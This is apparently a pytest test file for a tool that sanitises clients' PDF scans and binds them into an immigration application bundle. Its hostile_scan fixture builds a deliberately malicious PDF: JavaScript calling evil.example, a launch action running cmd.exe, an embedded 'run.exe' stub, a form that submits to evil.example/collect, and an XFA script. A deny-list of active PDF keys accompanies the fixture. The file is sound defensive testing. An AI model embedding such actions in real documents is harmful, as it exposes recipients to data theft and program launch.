"""Scans are sanitised and checked (issue 16.6): a client's PDF carrying JavaScript, launch and link actions,
automatic actions, embedded files or form scripts enters the bundle handed to the immigration office without any
of them, still showing what it showed, and staff get a note naming the file and what was removed. A scan the
bundle cannot take (a malformed /Rotate, /MediaBox, /Contents, /Resources, a page tree that loops) is named with
the reason and left out; the rest of the evidence is bound."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

from docgen.pdf.bundle import Part, Section, write_bundle
from docgen.pdf.evidence import EvidenceSet, collect_evidence
from tests.conftest import EXAMPLES, needs_libreoffice

ITEMS = ["passport", "residence_certificate", "resident_tax_certificates"]
# what must not be anywhere in the bundle: as a dictionary key or as a name value (/S /JavaScript)
ACTIVE = {"/JS", "/JavaScript", "/Launch", "/URI", "/EmbeddedFiles", "/EmbeddedFile", "/AA", "/OpenAction"}
ACTIVE |= {"/GoToR", "/SubmitForm", "/ImportData", "/XFA", "/AcroForm", "/EF", "/FileAttachment", "/Filespec"}


def helvetica(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))


def page_with_text(pdf: pikepdf.Pdf, text: str) -> pikepdf.Object:
    """A page that shows `text`, as a scanner with OCR or a bank's PDF would."""
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[-1].obj
    page.Resources = Dictionary(Font=Dictionary(F1=helvetica(pdf)))
    page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode())
    return page


def action(pdf: pikepdf.Pdf, kind: str, **more: object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **more))


def link(pdf: pikepdf.Pdf, act: pikepdf.Object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 72, 300, 100], A=act))


def hostile_scan(path: Path) -> Path:
    """A passport scan built the way a hostile PDF is: JavaScript run on opening and kept in the document's name
    tree, a page that runs a script when shown, a link to a web page, a link that launches a program, one that
    opens another file, an attached and an embedded file, a filled-in form whose field runs a script and submits
    itself, an XFA form, and a script tucked into the page's resources."""
    pdf = pikepdf.new()
    page = page_with_text(pdf, "PASSPORT COPY")
    js = action(pdf, "JavaScript", JS=String("app.launchURL('http://evil.example/', true);"))
    pdf.Root.OpenAction = js
    payload = pdf.make_stream(b"MZ this is not a document", Type=Name.EmbeddedFile)
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=payload)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), js])),
        EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), filespec])),
    )
    page.AA = Dictionary(O=action(pdf, "JavaScript", JS=String("this.print();")))
    launch = action(pdf, "Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    attached = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=[400, 72, 420, 92],
            FS=pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.pdf"), EF=Dictionary(F=payload))),
        )
    )
    appearance = pdf.make_stream(
        b"BT /Helv 12 Tf 2 6 Td (TANAKA SHOJI) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 200, 20],
        Resources=Dictionary(Font=Dictionary(Helv=helvetica(pdf))),
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("employer"),
            V=String("TANAKA SHOJI"),
            F=4,  # printed
            Rect=[72, 600, 272, 620],
            AP=Dictionary(N=appearance),
            AA=Dictionary(K=action(pdf, "JavaScript", JS=String("event.rc = true;"))),
            A=action(pdf, "SubmitForm", F=String("http://evil.example/collect")),
        )
    )
    page.Annots = Array(
        [
            link(pdf, action(pdf, "URI", URI=String("http://evil.example/"))),
            link(pdf, launch),
            link(pdf, action(pdf, "GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))),
            attached,
            field,
        ]
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        XFA=pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>"),
    )
    page.Resources.Properties = Dictionary(Hidden=action(pdf, "JavaScript", JS=String("app.alert(1)")))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=0))
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.save(path)
    return path


def plain_scan(path: Path, text: str = "RESIDENCE CERTIFICATE") -> Path:
    """An ordinary scan; it opens at page 1 and links to its own second page, which is no cause for a note."""
    pdf = pikepdf.new()
    first = page_with_text(pdf, text)
    page_with_text(pdf, "PAGE TWO")
    pdf.Root.OpenAction = Array([first, Name.Fit])
    goto = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
    first.Annots = Array([link(pdf, goto)])
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.save(path)
    return path


def index_pdf(path: Path) -> Path:
    pdf = pikepdf.new()
    page_with_text(pdf, "INDEX")
    pdf.save(path)
    return path


def bind(result: EvidenceSet, work: Path) -> Path:
    """The bundle made from the collected evidence, as the packet makes it."""
    sections = [
        Section(item, item, [Part(f.pdf, f.pages, f.label, f.source) for f in result.files.get(item, [])])
        for item in ITEMS
    ]
    out = work / "bundle.pdf"
    write_bundle(index_pdf(work / "index.pdf"), sections, out, title="永住許可申請 TEST")
    return out


def active_content(path: Path) -> list[str]:
    """Every key and name among ACTIVE in any object of the PDF, direct objects included."""
    found: list[str] = []

    def visit(obj: object) -> None:
        if isinstance(obj, pikepdf.Name):
            if str(obj) in ACTIVE:
                found.append(str(obj))
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                visit(item)
        elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key, value in obj.items():
                if key in ACTIVE:
                    found.append(key)
                if not (isinstance(value, pikepdf.Object) and value.is_indirect):
                    visit(value)

    with pikepdf.open(path) as pdf:
        visit(pdf.trailer)
        for obj in pdf.objects:
            visit(obj)
    return found


def test_a_hostile_scan_is_bound_without_its_actions_and_still_shows_its_page(tmp_path):
    scans = tmp_path / "scans"
    hostile_scan(scans / "passport-copy.pdf")
    plain_scan(scans / "residence_certificate.pdf")
    assert active_content(scans / "passport-copy.pdf")  # the scan as the client sent it
    result = collect_evidence(scans, ITEMS, tmp_path / "work")
    assert not result.rejected
    bundle = bind(result, tmp_path / "work")

    assert active_content(bundle) == []
    with pikepdf.open(bundle) as pdf:
        assert "/Names" not in pdf.Root and "/AcroForm" not in pdf.Root
        assert all("/Annots" not in page.obj for page in pdf.pages)
    # what the pages showed is still there: the scan's text and the value typed into the form
    reader = PdfReader(bundle)
    passport = reader.pages[1].extract_text()
    assert "PASSPORT COPY" in passport and "TANAKA SHOJI" in passport
    assert "RESIDENCE CERTIFICATE" in reader.pages[2].extract_text()
    assert len(reader.pages) == 4


def test_staff_are_told_which_scan_was_sanitised_and_what_was_removed(tmp_path, monkeypatch):
    scans = tmp_path / "scans"
    hostile_scan(scans / "passport-copy.pdf")
    plain_scan(scans / "residence_certificate.pdf")
    result = collect_evidence(scans, ITEMS, tmp_path / "work")
    assert [p.name for p, _ in result.sanitised] == ["passport-copy.pdf"]  # the ordinary scan needs no note
    note = result.sanitised[0][1]
    for words in ("JavaScript", "/Launch", "/URI", "/OpenAction", "embedded or attached files", "XFA"):
        assert words in note
    assert "unchanged" in note

    monkeypatch.setenv("DOCGEN_LANG", "ja")
    note = collect_evidence(scans, ITEMS, tmp_path / "work-ja").sanitised[0][1]
    assert "JavaScript" in note and "外部プログラムの起動" in note and "埋め込み・添付ファイル" in note
    assert "取り除いてから綴じました" in note


# ------------------------------------------------------------------ scans the bundle cannot take


def _set(key: str, value: object):
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj[key] = value

    return change


def _loop(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def _loop_below(pdf: pikepdf.Pdf) -> None:
    inner = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array(), Count=1, Parent=pdf.Root.Pages))
    inner.Kids.append(inner)
    pdf.Root.Pages.Kids.append(inner)


MALFORMED = {
    "rotate-text": (_set("/Rotate", String("abc")), "/Rotate"),
    "rotate-45": (_set("/Rotate", 45), "/Rotate"),
    "rotate-dictionary": (_set("/Rotate", Dictionary(Angle=90)), "/Rotate"),
    "mediabox-empty": (_set("/MediaBox", Array([0, 0, 0, 0])), "/MediaBox"),
    "mediabox-inverted-flat": (_set("/MediaBox", Array([0, 842, 595, 842])), "/MediaBox"),
    "cropbox-text": (_set("/CropBox", String("all")), "/CropBox"),
    "cropbox-outside": (_set("/CropBox", Array([1000, 1000, 1200, 1200])), "/CropBox"),
    "contents-number": (_set("/Contents", 5), "/Contents"),
    "contents-dictionary": (_set("/Contents", Dictionary(Length=3)), "/Contents"),
    "contents-array-of-names": (_set("/Contents", Array([Name.X, 1])), "/Contents"),
    "fonts-a-number": (_set("/Resources", Dictionary(Font=3)), "/Resources"),
    "page-tree-loops": (_loop, "page tree loops"),
    "page-tree-loops-below": (_loop_below, "page tree loops"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_scan_the_bundle_cannot_take_is_named_and_left_out(tmp_path, case):
    change, words = MALFORMED[case]
    scans = tmp_path / "scans"
    pdf = pikepdf.new()
    page_with_text(pdf, "TAX CERTIFICATE")
    change(pdf)
    scans.mkdir()
    pdf.save(scans / "resident_tax_certificates-2025.pdf")
    plain_scan(scans / "passport.pdf")
    result = collect_evidence(scans, ITEMS, tmp_path / "work")
    why = {p.name: reason for p, reason in result.rejected}
    assert list(why) == ["resident_tax_certificates-2025.pdf"]
    assert (
        words in why["resident_tax_certificates-2025.pdf"]
        and "ask the client" in why["resident_tax_certificates-2025.pdf"]
    )
    assert set(result.files) == {"passport"}
    assert PdfReader(bind(result, tmp_path / "work")).pages[1].extract_text().startswith("RESIDENCE")


def test_odd_but_meaningful_values_are_normalised_and_bound(tmp_path):
    """What viewers agree on is kept: a rotation of -90, 450 or 180.0, and a box given corner to corner."""
    scans = tmp_path / "scans"
    scans.mkdir()
    for name, key, value in (
        ("passport-1.pdf", "/Rotate", -90),
        ("passport-2.pdf", "/Rotate", 450),
        ("passport-3.pdf", "/Rotate", pikepdf.Object.parse(b"180.0")),
        ("passport-4.pdf", "/MediaBox", Array([595, 842, 0, 0])),
    ):
        pdf = pikepdf.new()
        page_with_text(pdf, "PASSPORT")
        pdf.pages[0].obj[key] = value
        pdf.save(scans / name)
    result = collect_evidence(scans, ITEMS, tmp_path / "work")
    assert not result.rejected and len(result.files["passport"]) == 4
    rotations = [PdfReader(f.pdf).pages[0].rotation for f in result.files["passport"]]
    assert rotations == [270, 90, 180, 0]
    bundle = PdfReader(bind(result, tmp_path / "work"))
    assert len(bundle.pages) == 5 and all(page.rotation == 0 for page in bundle.pages)


# hypothesis: whatever a page's structural entries hold, collecting never crashes, and what it accepts binds
_scalars = st.one_of(
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.sampled_from([Name.Fit, Name.XYZ, String("abc"), String(""), True]),
)
_values = st.one_of(
    _scalars,
    st.lists(_scalars, max_size=6).map(Array),
    st.dictionaries(st.sampled_from(["/A", "/Font", "/Length"]), _scalars, max_size=2).map(Dictionary),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    changes=st.dictionaries(
        st.sampled_from(["/Rotate", "/MediaBox", "/CropBox", "/Contents", "/Resources", "/Annots"]),
        _values,
        min_size=1,
        max_size=3,
    )
)
def test_any_malformed_page_is_either_bound_or_named(tmp_path_factory, changes):
    top = tmp_path_factory.mktemp("page")
    scans = top / "scans"
    scans.mkdir()
    pdf = pikepdf.new()
    page_with_text(pdf, "PASSPORT")
    for key, value in changes.items():
        pdf.pages[0].obj[key] = value
    pdf.save(scans / "passport.pdf")
    result = collect_evidence(scans, ITEMS, top / "work")
    assert len(result.rejected) + len(result.files.get("passport", [])) == 1
    for path, reason in result.rejected:
        assert path.name == "passport.pdf" and "ask the client" in reason
    pages = len(PdfReader(bind(result, top / "work")).pages)
    assert pages == 1 + len(result.files.get("passport", []))


@needs_libreoffice()
def test_the_packet_names_a_malformed_scan_and_completes(tmp_path):
    """The case from the trial: a scan with /Rotate (abc) used to stop the packet with 「予期しないエラー
    (TypeError)」; now the packet is made, the scan named and left out, a hostile one bound without its actions."""
    evidence = tmp_path / "evidence"
    shutil.copytree(EXAMPLES / "evidence", evidence)
    pdf = pikepdf.new()
    page_with_text(pdf, "TAX CERTIFICATE")
    pdf.pages[0].obj.Rotate = String("abc")
    pdf.save(evidence / "resident_tax_certificates-2025.pdf")
    hostile_scan(evidence / "passport-copy.pdf")
    result = subprocess.run(
        [sys.executable, "-m", "docgen", "packet", str(EXAMPLES / "teijusha.yaml"), "--evidence", str(evidence)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "unexpected" not in result.stderr.lower()
    assert "resident_tax_certificates-2025.pdf" in result.stdout + result.stderr
    assert "/Rotate" in result.stdout + result.stderr
    (bundle,) = tmp_path.rglob("*-packet.pdf")
    assert active_content(bundle) == []
